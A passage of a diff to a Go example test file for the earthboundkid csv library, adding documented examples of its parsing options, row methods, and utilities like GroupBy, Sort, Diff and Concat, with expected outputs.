@@ -1,12 +1,33 @@
 package csv_test
 
 import (
+	"bytes"
+	"context"
+	"database/sql"
+	"database/sql/driver"
+	stdcsv "encoding/csv"
+	"encoding/json"
+	"errors"
 	"fmt"
+	"io"
 	"log"
+	"log/slog"
+	"maps"
+	"math/big"
+	"math/rand/v2"
+	"mime/multipart"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/earthboundkid/csv/v2"
+	"golang.org/x/text/encoding/unicode"
 )
 
 func ExampleOptions_ReadAll() {
@@ -28,6 +49,26 @@ Ken,Thompson,ken
 	// [map[first_name:Rob last_name:Pike username:rob] map[first_name:Ken last_name:Thompson username:ken] map[first_name:Robert last_name:Griesemer username:gri]]
 }
 
+func ExampleOptions_ReadAll_rowsHint() {
+	in := `id,name
+1,rob
+2,ken
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+		// Room for the rows is allocated once, up front.
+		RowsHint: 100,
+	}
+	rows, err := csvopt.ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(len(rows), cap(rows))
+
+	// Output:
+	// 2 100
+}
+
 // This example shows how csv.FieldReader can be configured to handle other
 // types of CSV files.
 func ExampleOptions() {
@@ -56,7 +97,97 @@ Ken;Thompson;ken
 	// gri
 }
 
-func Example() {
+func ExampleOptions_ragged() {
+	in := `first_name,last_name,username
+Rob,Pike
+Ken,Thompson,ken,unix
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+		Ragged: true,
+	}
+
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("%q %q\n", row.Field("username"), row.Extra())
+	}
+
+	// Output:
+	// "" []
+	// "ken" ["unix"]
+}
+
+func ExampleOptions_skipRows() {
+	in := `Account export
+Generated 2024-01-02 at 10:00
+first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+`
+	csvopt := csv.Options{
+		Reader:   strings.NewReader(in),
+		SkipRows: 2,
+	}
+	rows, err := csvopt.ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(rows)
+
+	// Output:
+	// [map[first_name:Rob last_name:Pike username:rob] map[first_name:Ken last_name:Thompson username:ken]]
+}
+
+func ExampleOptions_skipRows_utf16() {
+	// The lines are skipped after the input is decoded from UTF-16.
+	enc := unicode.UTF16(unicode.BigEndian, unicode.UseBOM)
+	in, err := enc.NewEncoder().String("Account export\nusername,uid\nrob,1\n")
+	if err != nil {
+		log.Fatal(err)
+	}
+	csvopt := csv.Options{
+		Reader:   strings.NewReader(in),
+		SkipRows: 1,
+	}
+	rows, err := csvopt.ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(rows)
+
+	// Output:
+	// [map[uid:1 username:rob]]
+}
+
+func ExampleOptions_onComment() {
+	in := `# Account export
+# Generated 2024-01-02
+username,uid
+rob,1
+# ken is on leave
+ken,2
+`
+	var comments []string
+	csvopt := csv.Options{
+		Reader:    strings.NewReader(in),
+		Comment:   '#',
+		OnComment: func(line string) { comments = append(comments, line) },
+	}
+	rows, err := csvopt.ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(rows)
+	fmt.Printf("%q\n", comments)
+
+	// Output:
+	// [map[uid:1 username:rob] map[uid:2 username:ken]]
+	// ["# Account export" "# Generated 2024-01-02" "# ken is on leave"]
+}
+
+func ExampleOptions_limit() {
 	in := `first_name,last_name,username
 "Rob","Pike",rob
 Ken,Thompson,ken
@@ -64,49 +195,3384 @@ Ken,Thompson,ken
 `
 	csvopt := csv.Options{
 		Reader: strings.NewReader(in),
+		Offset: 1,
+		Limit:  1,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("username"))
 	}
 
-	var user struct {
-		Username string `csv:"username"`
-		First    string `csv:"first_name"`
-		Last     string `csv:"last_name"`
+	// Output:
+	// ken
+}
+
+func ExampleOptions_blankLines() {
+	in := `name,qty
+apples,1
+pears,2
+
+carrots,3
+`
+	csvopt := csv.Options{
+		Reader:     strings.NewReader(in),
+		BlankLines: csv.YieldBlankLines,
 	}
-	for err := range csv.Scan(csvopt, &user) {
+	group := 1
+	for row, err := range csvopt.Rows() {
 		if err != nil {
 			log.Fatal(err)
 		}
-		fmt.Printf("%q %s, %s\n", user.Username, user.Last, user.First)
+		if row.Blank() {
+			group++
+			continue
+		}
+		fmt.Println(group, row.Field("name"))
 	}
 
 	// Output:
-	// "rob" Pike, Rob
-	// "ken" Thompson, Ken
-	// "gri" Griesemer, Robert
+	// 1 apples
+	// 1 pears
+	// 2 carrots
 }
 
-func ExampleScanAll() {
-	in := `first_name,last_name,username
+func ExampleOptions_headerMatch() {
+	in := `ACME Corp vendor report
+Region: "North"
+
+first_name,last_name,username
 "Rob","Pike",rob
 Ken,Thompson,ken
-"Robert","Griesemer","gri"
 `
 	csvopt := csv.Options{
 		Reader: strings.NewReader(in),
+		HeaderMatch: func(row []string) bool {
+			return slices.Contains(row, "username")
+		},
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("username"))
 	}
 
-	type user struct {
-		Username string `csv:"username"`
-		First    string `csv:"first_name"`
-		Last     string `csv:"last_name"`
+	// Output:
+	// rob
+	// ken
+}
+
+func ExampleOptions_headerRows() {
+	in := `,2024,,2025
+region,Q1,Q2,Q1
+north,10,12,9
+south,7,8,11
+`
+	csvopt := csv.Options{
+		Reader:     strings.NewReader(in),
+		HeaderRows: 2,
 	}
-	users, err := csv.ScanAll[user](csvopt)
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("region"), row.Field("2024/Q2"), row.Field("2025/Q1"))
+	}
+
+	// Output:
+	// north 12 9
+	// south 8 11
+}
+
+func ExampleOptions_duplicates() {
+	in := `name,note,note
+Rob,Go,Plan 9
+Ken,Unix,B
+`
+	csvopt := csv.Options{
+		Reader:     strings.NewReader(in),
+		Duplicates: csv.RenameDuplicates,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("%s %q %q\n", row.Field("note"), row.Field("note_2"), row.FieldAll("note"))
+	}
+
+	// Output:
+	// Go "Plan 9" ["Go" "Plan 9"]
+	// Unix "B" ["Unix" "B"]
+}
+
+func ExampleOptions_normalizeHeader() {
+	in := `  First Name ,Last Name,USERNAME
+"Rob","Pike",rob
+Ken,Thompson,ken
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+		NormalizeHeader: func(s string) string {
+			s = strings.ToLower(strings.TrimSpace(s))
+			return strings.ReplaceAll(s, " ", "_")
+		},
+	}
+	rows, err := csvopt.ReadAll()
 	if err != nil {
 		log.Fatal(err)
 	}
-	fmt.Println(users)
+	fmt.Println(rows)
 
 	// Output:
-	// [{rob Rob Pike} {ken Ken Thompson} {gri Robert Griesemer}]
+	// [map[first_name:Rob last_name:Pike username:rob] map[first_name:Ken last_name:Thompson username:ken]]
+}
+
+func ExampleOptions_columns() {
+	in := `first_name,last_name,username,bio
+"Rob","Pike",rob,"Go, Plan 9, and UTF-8"
+Ken,Thompson,ken,Unix
+"Robert","Griesemer","gri",Go
+`
+	csvopt := csv.Options{
+		Reader:  strings.NewReader(in),
+		Columns: []string{"username", "first_name"},
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Header(), row.Record())
+	}
+
+	// Output:
+	// [first_name username] [Rob rob]
+	// [first_name username] [Ken ken]
+	// [first_name username] [Robert gri]
+}
+
+func ExampleOptions_rename() {
+	in := `First,Last,Login
+"Rob","Pike",rob
+Ken,Thompson,ken
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+		Rename: map[string]string{
+			"First": "first_name",
+			"Login": "username",
+		},
+		Columns: []string{"first_name", "username"},
+	}
+	rows, err := csvopt.ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(rows)
+
+	// Output:
+	// [map[first_name:Rob username:rob] map[first_name:Ken username:ken]]
+}
+
+func ExampleDetectOptions() {
+	in := `first_name;last_name;username
+"Rob";"Pike";rob
+Ken;Thompson;ken
+`
+	csvopt, err := csv.DetectOptions(strings.NewReader(in))
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("%q %v\n", csvopt.Comma, csvopt.FieldNames)
+	rows, err := csvopt.ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(rows)
+
+	in = "1001\trob\t2009-11-10\n1002\tken\t1969-01-01\n"
+	csvopt, err = csv.DetectOptions(strings.NewReader(in))
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("%q %v\n", csvopt.Comma, csvopt.FieldNames)
+
+	// Output:
+	// ';' []
+	// [map[first_name:Rob last_name:Pike username:rob] map[first_name:Ken last_name:Thompson username:ken]]
+	// '\t' [column_1 column_2 column_3]
+}
+
+func ExampleOptions_charset() {
+	// A file exported by a legacy system in Windows-1252.
+	in := "name,city\nG\xf6del,Br\xfcnn\nErdos,Budapest\n"
+	csvopt := csv.Options{
+		Reader:        strings.NewReader(in),
+		DetectCharset: true,
+	}
+	rows, err := csvopt.ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(rows)
+
+	// Output:
+	// [map[city:Brünn name:Gödel] map[city:Budapest name:Erdos]]
+}
+
+func ExampleOptions_byteOrderMark() {
+	// Excel begins UTF-8 CSV files with a byte order mark.
+	in := "\ufefffirst_name,last_name\r\nRob,Pike\r\n"
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("first_name"))
+	}
+
+	// Output:
+	// Rob
+}
+
+func ExampleOptions_utf16() {
+	// SQL Server exports UTF-16LE, often without a byte order mark.
+	enc := unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM)
+	in, err := enc.NewEncoder().String("name,city\r\nGödel,Brünn\r\n")
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, csvopt := range []csv.Options{
+		{Reader: strings.NewReader(in), Charset: enc},
+		{Reader: strings.NewReader(in), DetectCharset: true},
+	} {
+		rows, err := csvopt.ReadAll()
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(rows)
+	}
+
+	// Output:
+	// [map[city:Brünn name:Gödel]]
+	// [map[city:Brünn name:Gödel]]
+}
+
+func ExampleOptions_quote() {
+	in := `name,motto
+'Rob Pike','Don''t communicate by sharing memory, share memory by communicating.'
+'Ken Thompson','When in doubt, use brute force.'
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+		Quote:  '\'',
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("motto"))
+	}
+
+	// Output:
+	// Don't communicate by sharing memory, share memory by communicating.
+	// When in doubt, use brute force.
+}
+
+func ExampleOptions_commaString() {
+	in := `username~|~uid~|~notes
+rob~|~1001~|~Go, Plan 9|UTF-8
+ken~|~1002~|~"Unix ~|~ C"
+`
+	csvopt := csv.Options{
+		Reader:      strings.NewReader(in),
+		CommaString: "~|~",
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("%s: %q\n", row.Field("username"), row.Field("notes"))
+	}
+
+	// Output:
+	// rob: "Go, Plan 9|UTF-8"
+	// ken: "Unix ~|~ C"
+}
+
+func ExampleOptions_terminator() {
+	in := "username,bio\x1erob,\"Go, Plan 9,\nand UTF-8\"\x1eken,Unix\x1e"
+	csvopt := csv.Options{
+		Reader:     strings.NewReader(in),
+		Terminator: "\x1e",
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("%s: %q\n", row.Field("username"), row.Field("bio"))
+	}
+
+	// Output:
+	// rob: "Go, Plan 9,\nand UTF-8"
+	// ken: "Unix"
+}
+
+func ExampleOptions_carriageReturns() {
+	// Line endings from classic Mac OS are detected.
+	in := "username,uid\rrob,1001\rken,1002\r"
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Line(), row.Field("username"), row.Field("uid"))
+	}
+
+	// Output:
+	// 2 rob 1001
+	// 3 ken 1002
+}
+
+func ExampleOptions_strict() {
+	in := "username,uid\r\nrob,1001\r\nken,1002\n"
+	csvopt := csv.Options{
+		Reader:      strings.NewReader(in),
+		Strict:      true,
+		RequireCRLF: true,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			fmt.Println(err)
+			break
+		}
+		fmt.Println(row.Field("username"))
+	}
+
+	// Output:
+	// rob
+	// parse error on line 3, column 9: record does not end with \r\n
+}
+
+func ExampleOptions_unicode() {
+	// The accents are combining characters, as written by macOS.
+	in := "Cafe\u0301,Ville\nLe Pre\u0301 Vert,Montre\u0301al\n"
+	csvopt := csv.Options{
+		Reader:        strings.NewReader(in),
+		Unicode:       csv.UnicodeNFC,
+		UnicodeValues: true,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("Café"), row.Field("Ville") == "Montréal")
+	}
+
+	// Output:
+	// Le Pré Vert true
+}
+
+func ExampleOptions_trimSpace() {
+	in := `username , uid
+ rob,1001
+"  ken ",1002
+`
+	csvopt := csv.Options{
+		Reader:    strings.NewReader(in),
+		TrimSpace: true,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("%q %q\n", row.Field("username"), row.Field("uid"))
+	}
+
+	// Output:
+	// "rob" "1001"
+	// "ken" "1002"
+}
+
+func ExampleRow_Line() {
+	in := `username,bio
+rob,"Go, Plan 9,
+and UTF-8"
+ken,Unix
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("row %d on line %d: %s\n", row.Number(), row.Line(), row.Field("username"))
+	}
+
+	// Output:
+	// row 1 on line 2: rob
+	// row 2 on line 4: ken
+}
+
+func ExampleRow_Has() {
+	in := `first_name,last_name,username
+Ken,Thompson,
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		for _, name := range []string{"username", "user_name"} {
+			fmt.Printf("%s: %t %q\n", name, row.Has(name), row.Field(name))
+		}
+	}
+
+	// Output:
+	// username: true ""
+	// user_name: false ""
+}
+
+func ExampleRow_Clone() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	var matches []*csv.Row
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		if strings.HasPrefix(row.Field("first_name"), "Rob") {
+			matches = append(matches, row.Clone())
+		}
+	}
+	for _, row := range matches {
+		fmt.Println(row.Field("username"))
+	}
+
+	// Output:
+	// rob
+	// gri
+}
+
+func ExampleRow_Record() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Header(), row.Record())
+	}
+
+	// Output:
+	// [first_name last_name username] [Rob Pike rob]
+	// [first_name last_name username] [Ken Thompson ken]
+}
+
+func ExampleRow_All() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		for name, value := range row.All() {
+			fmt.Printf("%s=%s\n", name, value)
+		}
+	}
+
+	// Output:
+	// first_name=Rob
+	// last_name=Pike
+	// username=rob
+}
+
+func ExampleRow_FieldsInto() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	m := make(map[string]string)
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		row.FieldsInto(m)
+		fmt.Println(m)
+	}
+
+	// Output:
+	// map[first_name:Rob last_name:Pike username:rob]
+	// map[first_name:Ken last_name:Thompson username:ken]
+}
+
+func ExampleRow_MarshalJSON() {
+	in := `username,first_name,last_name
+rob,"Rob","Pike"
+ken,Ken,Thompson
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	enc := json.NewEncoder(os.Stdout)
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		if err = enc.Encode(row); err != nil {
+			log.Fatal(err)
+		}
+	}
+
+	// Output:
+	// {"username":"rob","first_name":"Rob","last_name":"Pike"}
+	// {"username":"ken","first_name":"Ken","last_name":"Thompson"}
+}
+
+func ExampleRow_LogValue() {
+	in := `username,first_name,last_name
+rob,"Rob","Pike"
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	logger := slog.New(slog.NewTextHandler(os.Stdout, &slog.HandlerOptions{
+		ReplaceAttr: func(groups []string, a slog.Attr) slog.Attr {
+			if a.Key == slog.TimeKey && len(groups) == 0 {
+				return slog.Attr{}
+			}
+			return a
+		},
+	}))
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		logger.Warn("suspicious row", "line", row.Line(), "row", row)
+	}
+
+	// Output:
+	// level=WARN msg="suspicious row" line=2 row.username=rob row.first_name=Rob row.last_name=Pike
+}
+
+func ExampleRow_Bytes() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	csvopt := csv.Options{
+		Reader:      strings.NewReader(in),
+		LazyStrings: true,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		if bytes.HasPrefix(row.Bytes("first_name"), []byte("Rob")) {
+			fmt.Println(row.Field("username"))
+		}
+	}
+
+	// Output:
+	// rob
+	// gri
+}
+
+func ExampleRow_Decode() {
+	in := `username,uid
+rob,1
+ken,two
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type user struct {
+		Username string `csv:"username"`
+		UID      int    `csv:"uid"`
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		var u user
+		// Scan would leave u.UID unchanged.
+		if err := row.Decode(&u); err != nil {
+			fmt.Println(err)
+			continue
+		}
+		fmt.Println(u)
+	}
+
+	// Output:
+	// {rob 1}
+	// line 3, column "uid": strconv.ParseInt: parsing "two": invalid syntax
+}
+
+func ExampleRow_Scan_unparsable() {
+	in := `n,ok,p,score_1,score_2
+x,maybe,y,10,z
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type record struct {
+		N      int    `csv:"n"`
+		OK     bool   `csv:"ok"`
+		P      *int   `csv:"p"`
+		Scores []int  `csv:"score_*"`
+		Note   string `csv:"note"`
+	}
+	p := 5
+	r := record{N: 7, OK: true, P: &p, Scores: []int{1, 2}}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		// The values that cannot be parsed leave their fields as they were.
+		row.Scan(&r)
+	}
+	fmt.Println(r.N, r.OK, r.P == &p, r.Scores)
+
+	// Output:
+	// 7 true true [10 2]
+}
+
+func ExampleReader() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	r := csv.NewReader(csv.Options{
+		Reader: strings.NewReader(in),
+	})
+	// Consume the first row separately.
+	if r.Next() {
+		fmt.Println("first:", r.Row().Field("username"))
+	}
+	for r.Next() {
+		fmt.Println("rest:", r.Row().Field("username"))
+	}
+	if err := r.Err(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// first: rob
+	// rest: ken
+	// rest: gri
+}
+
+func ExampleOptions_Batches() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	for batch, err := range csvopt.Batches(2) {
+		if err != nil {
+			log.Fatal(err)
+		}
+		var usernames []string
+		for _, row := range batch {
+			usernames = append(usernames, row.Field("username"))
+		}
+		fmt.Println(usernames)
+	}
+
+	// Output:
+	// [rob ken]
+	// [gri]
+}
+
+func ExampleOptions_ParallelRows() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	// Usually src would be an *os.File.
+	src := strings.NewReader(in)
+	var csvopt csv.Options
+	for row, err := range csvopt.ParallelRows(src, src.Size(), 0) {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("username"))
+	}
+
+	// Output:
+	// rob
+	// ken
+	// gri
+}
+
+func ExampleOptions_ParallelRows_utf16() {
+	// Excel's "Unicode Text" exports begin with a UTF-16 byte order mark,
+	// so they are decoded and parsed sequentially.
+	enc := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM)
+	in, err := enc.NewEncoder().String("name,city\r\nGödel,Brünn\r\nNoether,Erlangen\r\n")
+	if err != nil {
+		log.Fatal(err)
+	}
+	src := strings.NewReader(in)
+	var csvopt csv.Options
+	for row, err := range csvopt.ParallelRows(src, src.Size(), 2) {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("name"), row.Field("city"))
+	}
+
+	// Output:
+	// Gödel Brünn
+	// Noether Erlangen
+}
+
+func ExampleOptions_readAhead() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	csvopt := csv.Options{
+		Reader:    strings.NewReader(in),
+		ReadAhead: 100,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		// Slow work here overlaps with parsing the following rows.
+		fmt.Println(row.Field("username"))
+	}
+
+	// Output:
+	// rob
+	// ken
+	// gri
+}
+
+func ExampleOpenMmap() {
+	f, err := os.CreateTemp("", "*.csv")
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer os.Remove(f.Name())
+	f.WriteString(`first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`)
+	f.Close()
+
+	m, err := csv.OpenMmap(f.Name())
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer m.Close()
+
+	csvopt := csv.Options{
+		Reader:      m.Reader(),
+		LazyStrings: true,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("%s\n", row.Bytes("username"))
+	}
+
+	// Output:
+	// rob
+	// ken
+	// gri
+}
+
+func ExampleRecordReader() {
+	in := `first_name	last_name	username
+Rob	Pike	rob
+Ken	Thompson	ken
+`
+	// Any type with a Read() ([]string, error) method can supply records.
+	cr := stdcsv.NewReader(strings.NewReader(in))
+	cr.Comma = '\t'
+	csvopt := csv.Options{
+		Records: cr,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Line(), row.Field("username"))
+	}
+
+	// Output:
+	// 2 rob
+	// 3 ken
+}
+
+func ExampleReader_Reset() {
+	files := []string{
+		`first_name,last_name,username
+"Rob","Pike",rob
+`,
+		`first_name,last_name,username
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`,
+	}
+	type user struct {
+		Username string `csv:"username"`
+		First    string `csv:"first_name"`
+	}
+	var u user
+	r := csv.NewReader(csv.Options{})
+	for _, in := range files {
+		r.Reset(strings.NewReader(in))
+		for r.Next() {
+			r.Row().Scan(&u)
+			fmt.Println(u)
+		}
+		if err := r.Err(); err != nil {
+			log.Fatal(err)
+		}
+	}
+
+	// Output:
+	// {rob Rob}
+	// {ken Ken}
+	// {gri Robert}
+}
+
+func ExampleCount() {
+	in := `username,bio
+rob,"Go, Plan 9,
+and UTF-8"
+ken,Unix
+`
+	n, err := csv.Count(csv.Options{
+		Reader: strings.NewReader(in),
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(n)
+
+	// Output:
+	// 2
+}
+
+func ExampleHead() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer,gri
+`
+	// Head stops reading after two rows,
+	// so it does not reach the malformed third row.
+	rows, err := csv.Head(csv.Options{
+		Reader: strings.NewReader(in),
+	}, 2)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, row := range rows {
+		fmt.Println(row.Field("username"))
+	}
+
+	// Output:
+	// rob
+	// ken
+}
+
+func ExampleTail() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	rows, err := csv.Tail(csv.Options{
+		Reader: strings.NewReader(in),
+	}, 2)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, row := range rows {
+		fmt.Println(row.Field("username"))
+	}
+
+	// Output:
+	// ken
+	// gri
+}
+
+func ExampleSample() {
+	var buf strings.Builder
+	buf.WriteString("n\n")
+	for i := range 1000 {
+		fmt.Fprintln(&buf, i)
+	}
+	rows, err := csv.Sample(csv.Options{
+		Reader: strings.NewReader(buf.String()),
+	}, 5, rand.NewPCG(1, 2))
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(len(rows))
+
+	// Output:
+	// 5
+}
+
+func ExampleGroupBy() {
+	in := `region,product,amount
+east,widget,10
+west,widget,5.5
+east,gadget,7
+west,gadget,
+east,widget,3
+`
+	rows, err := csv.GroupBy(csv.Options{
+		Reader: strings.NewReader(in),
+	}, []string{"region"},
+		csv.CountRows("orders"),
+		csv.Sum("total", "amount"),
+		csv.Max("largest", "amount"),
+	)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, row := range rows {
+		fmt.Println(row.Fields())
+	}
+
+	// Output:
+	// map[largest:10 orders:3 region:east total:20]
+	// map[largest:5.5 orders:2 region:west total:5.5]
+}
+
+func ExampleSort() {
+	in := `username,uid,joined
+rob,1001,2009-11-10T23:00:00Z
+ken,12,1969-01-01T00:00:00Z
+gri,1003,2009-11-10T23:00:00Z
+`
+	err := csv.Sort(csv.Options{
+		Reader: strings.NewReader(in),
+	}, &csv.Writer{
+		Writer: os.Stdout,
+	},
+		csv.SortKey{Column: "joined", Compare: csv.CompareTimes, Descending: true},
+		csv.SortKey{Column: "uid", Compare: csv.CompareNumbers},
+	)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// username,uid,joined
+	// rob,1001,2009-11-10T23:00:00Z
+	// gri,1003,2009-11-10T23:00:00Z
+	// ken,12,1969-01-01T00:00:00Z
+}
+
+func ExampleDiff() {
+	old := `username,first_name,shell
+rob,Rob,/bin/rc
+ken,Ken,/bin/sh
+dmr,Dennis,/bin/sh
+`
+	new := `username,first_name,shell
+ken,Ken,/bin/sh
+rob,Rob,/bin/zsh
+gri,Robert,/bin/bash
+`
+	changes := csv.Diff(
+		csv.Options{Reader: strings.NewReader(old)},
+		csv.Options{Reader: strings.NewReader(new)},
+		[]string{"username"},
+	)
+	for c, err := range changes {
+		if err != nil {
+			log.Fatal(err)
+		}
+		switch c.Kind {
+		case csv.RowAdded:
+			fmt.Println("added", c.New.Field("username"))
+		case csv.RowRemoved:
+			fmt.Println("removed", c.Old.Field("username"))
+		case csv.RowChanged:
+			for _, col := range c.Columns {
+				fmt.Println("changed", c.New.Field("username"), col,
+					c.Old.Field(col), "=>", c.New.Field(col))
+			}
+		}
+	}
+
+	// Output:
+	// changed rob shell /bin/rc => /bin/zsh
+	// added gri
+	// removed dmr
+}
+
+func ExampleDiff_duplicateKeys() {
+	// Orders are keyed by customer, who may have several.
+	old := `customer,item
+rob,pen
+rob,ink
+ken,tape
+`
+	new := `customer,item
+rob,pen
+rob,ink
+rob,nib
+ken,tape
+`
+	changes := csv.Diff(
+		csv.Options{Reader: strings.NewReader(old)},
+		csv.Options{Reader: strings.NewReader(new)},
+		[]string{"customer"},
+	)
+	for c, err := range changes {
+		if err != nil {
+			log.Fatal(err)
+		}
+		switch c.Kind {
+		case csv.RowAdded:
+			fmt.Println("added", c.New.Field("customer"), c.New.Field("item"))
+		case csv.RowRemoved:
+			fmt.Println("removed", c.Old.Field("customer"), c.Old.Field("item"))
+		case csv.RowChanged:
+			fmt.Println("changed", c.New.Field("customer"), c.Columns)
+		}
+	}
+
+	// Output:
+	// added rob nib
+}
+
+func ExampleConcat() {
+	jan := `username,uid
+rob,1001
+`
+	feb := `username,shell,uid
+ken,/bin/sh,1002
+`
+	rows := csv.Concat(
+		csv.Options{Reader: strings.NewReader(jan)},
+		csv.Options{Reader: strings.NewReader(feb)},
+	)
+	w := csv.Writer{Writer: os.Stdout}
+	for row, err := range rows {
+		if err != nil {
+			log.Fatal(err)
+		}
+		if err = w.WriteRow(row); err != nil {
+			log.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// username,uid,shell
+	// rob,1001,
+	// ken,1002,/bin/sh
